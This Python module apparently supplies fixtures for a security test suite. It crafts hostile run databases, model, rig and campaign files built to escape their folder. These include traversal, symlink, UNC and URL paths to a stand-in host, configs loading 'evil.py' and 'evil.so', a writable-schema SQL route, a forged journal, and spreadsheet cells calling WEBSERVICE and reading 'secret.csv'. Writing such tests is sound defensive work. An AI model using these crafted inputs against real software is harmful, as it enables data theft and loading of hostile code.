"""Makes honest files into crafted ones: a path, a name or a text of the author's choice where a key stands."""

import contextlib
import json
import shutil
import sqlite3
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from gate.canaries import Canaries
from hostile.journals import journal_that_names
from hostile.material import MAT_MAPPING, Material, model_data

Make = Callable[[Material, Canaries, Path], object]
_UPSERT = "INSERT OR REPLACE INTO run VALUES (?, ?)"


@dataclass(frozen=True)
class Crafted:
    """A file of a kind (of ``commands.COMMANDS``), and what makes it in a folder."""

    kind: str
    make: Make


def paths(c: Canaries, folder: Path, target: str) -> dict[str, str]:
    """The ways to write the path of a file outside."""
    link = folder / f"link_{target}"
    link.unlink(missing_ok=True)
    link.symlink_to(c.folder / target)
    return {
        "absolute": c.path(target),
        "relative": target,
        "through the parent": f"../{c.folder.name}/{target}",
        "a link": str(link),
        "home": f"~/{target}",
        "UNC": rf"\\192.0.2.1\share\{target}",
        "a server": f"//192.0.2.1/share/{target}",
        "URL of a file": f"file://{c.path(target)}",
        "URL": f"http://192.0.2.1/{target}",
        "a pipe": c.path("pipe"),
        "a device": "/dev/zero",
        "a name of smarig that lies here": target.partition(".")[0],
    }


def run_with(change: Callable[[dict[str, Any], Material, Canaries, Path], object]) -> Crafted:
    """A killed run after a change of its keys."""

    def make(m: Material, c: Canaries, path: Path) -> None:
        shutil.copy(m.killed, path)
        with contextlib.closing(sqlite3.connect(path)) as db, db:
            meta = {key: json.loads(text) for key, text in db.execute("SELECT key, value FROM run")}
            change(meta, m, c, path.parent)
            db.execute("DELETE FROM run")
            db.executemany(_UPSERT, [(key, json.dumps(value)) for key, value in meta.items()])

    return Crafted("run", make)


def started(target: str, way: str, *where: str, **others: Any) -> Crafted:
    """A run that was started with a path at ``where`` in ``begun_with``."""

    def change(meta: dict[str, Any], m: Material, c: Canaries, folder: Path) -> None:
        del m
        meta |= others
        table = meta["begun_with"]
        for key in where[:-1]:
            table = table.setdefault(key, {})
        table[where[-1]] = paths(c, folder, target)[way]

    return run_with(change)


def keyed(key: str, target: str, way: str) -> Crafted:
    """A run with a path under a key, and without the values that would be used in its place."""

    def change(meta: dict[str, Any], m: Material, c: Canaries, folder: Path) -> None:
        del m
        for other in ("rig_values", "actuator_values", "rig_sha256"):
            meta.pop(other, None)
        meta[key] = paths(c, folder, target)[way]

    return run_with(change)


def own_rig(key: str, how: str) -> Crafted:
    """A run that leads to a rig file of the table: by its path, by its text, or by its values."""

    def change(meta: dict[str, Any], m: Material, c: Canaries, folder: Path) -> None:
        del m, folder
        text = Path(c.rig(key)).read_text(encoding="utf-8")
        for other in ("rig_values", "rig_sha256"):
            meta.pop(other, None)
        shipped = meta["config"]
        meta["config"] = f"{text}\n{shipped}"
        if how == "path":
            meta["begun_with"]["rig"] = c.rig(key)
        elif how == "values":
            meta["rig_values"] = {
                "name": "one_wire_twin",
                "base": c.path("base.toml"),
                "actuator": c.path("actuator.toml"),
                "load": {"file": c.path("load.csv")},
                "links": {"amplifier": {"driver": c.path("evil.py"), "framing": "lines", "url": "/dev/zero"}},
                "simulator": {"library": c.path("evil.so"), "trace": c.path("victim.csv")},
            }

    return run_with(change)


def model_with(change: Callable[[dict[str, Any], Canaries, Path], object]) -> Crafted:
    """The honest model after a change."""

    def make(m: Material, c: Canaries, path: Path) -> None:
        data = model_data(m)
        change(data, c, path.parent)
        path.write_text(json.dumps(data), encoding="utf-8")

    return Crafted("model", make)


def model_rig(way: str) -> Crafted:
    return model_with(lambda data, c, folder: data.update(rig=paths(c, folder, "rig.toml")[way]))


def provenance(way: str) -> Crafted:
    def change(data: dict[str, Any], c: Canaries, folder: Path) -> None:
        entry = data["provenance"][0]
        entry["run"] = paths(c, folder, "whole.run.sqlite")[way]

    return model_with(change)


def effect(name: str) -> Crafted:
    def change(data: dict[str, Any], c: Canaries, folder: Path) -> None:
        del folder
        data["effects"] = [{"name": name.format(evil=c.path("evil.py")), "parameters": {"x": 1.0}}]

    return model_with(change)


def text_file(kind: str, text: Callable[[Material, Canaries], str]) -> Crafted:
    """A text file."""
    return Crafted(kind, lambda m, c, path: path.write_text(text(m, c), encoding="utf-8"))


def campaign_step(name: str) -> Crafted:
    step = f'[[step]]\nprotocol = "validation"\nname = {json.dumps(name)}\n'
    return text_file(
        "campaign", lambda m, c: f'name = "c"\nsummary = "s"\n{step}'.replace("OUTSIDE", str(c.folder))
    )


def mat_files(pattern: str) -> Crafted:
    text = MAT_MAPPING.replace("[mat]", f"[mat]\nfiles = [{json.dumps(pattern)}]")
    return text_file("mapping", lambda m, c: text.replace("OUTSIDE", str(c.folder)))


def surface(name: str) -> Crafted:
    def make(m: Material, c: Canaries, path: Path) -> None:
        actuator = m.text("actuator.toml").replace('surface = "one_e"', f'surface = "{name}"')
        actuator = actuator.replace("OUTSIDE", str(c.folder))
        assert name.partition("/")[2] in actuator
        (path.parent / "wire.toml").write_text(actuator)
        path.write_text(m.text("rig.toml").replace('"gorbet_one_wire"', '"wire.toml"'))

    return Crafted("rig", make)


def surface_form(name: str) -> Crafted:
    """An actuator with a model of its own, whose form is this."""

    def make(m: Material, c: Canaries, path: Path) -> None:
        named = json.dumps(name.replace("OUTSIDE", str(c.folder)))
        model = (
            f'[hysteresis.model]\nkind = "fod_surface"\nform = {named}\nx = {{ x2 = 0.04 }}\nlower = 0.0\n'
        )
        actuator = m.text("actuator.toml").replace('surface = "one_e"\n', "")
        (path.parent / "wire.toml").write_text(
            f"{actuator}\n{model}upper = 174.1\ny_lower = 0.0\ny_upper = 12.5\n"
        )
        path.write_text(m.text("rig.toml").replace('"gorbet_one_wire"', '"wire.toml"'))

    return Crafted("rig", make)


def sql(statement: str) -> Crafted:
    def make(m: Material, c: Canaries, path: Path) -> None:
        shutil.copy(m.killed, path)
        with contextlib.closing(sqlite3.connect(path, isolation_level=None)) as db:
            db.execute("PRAGMA writable_schema = ON")
            db.executescript(statement.replace("OUTSIDE", str(c.folder)))

    return Crafted("run", make)


def journal(m: Material, c: Canaries, path: Path) -> None:
    shutil.copy(m.killed, path)
    Path(f"{path}-journal").write_bytes(journal_that_names(c.folder / "victim.csv", path.read_bytes()))


def beside(ending: str, target: str) -> Crafted:
    def make(m: Material, c: Canaries, path: Path) -> None:
        shutil.copy(m.killed, path)
        Path(f"{path}{ending}").symlink_to(c.folder / target)

    return Crafted("run", make)


def folder(**links: str) -> Crafted:
    """A folder of an honest run, with links under these names (``__`` is a point)."""

    def make(m: Material, c: Canaries, path: Path) -> None:
        path.mkdir()
        shutil.copy(m.whole, path / "good.run.sqlite")
        shutil.copy(m.folder / "good.csv", path / "good.csv")
        for name, target in links.items():
            (path / name.replace("__", ".")).symlink_to(c.folder / target)

    return Crafted("folder", make)


def workbook(m: Material, c: Canaries, path: Path) -> None:
    del m
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["time_s", "H (A/m)", "B (T)"])
    for k in range(20):
        sheet.append([k, f"='[{c.path('secret.csv')}]Sheet1'!A{k + 1}", '=WEBSERVICE("http://192.0.2.1/x")'])
    book.save(path)
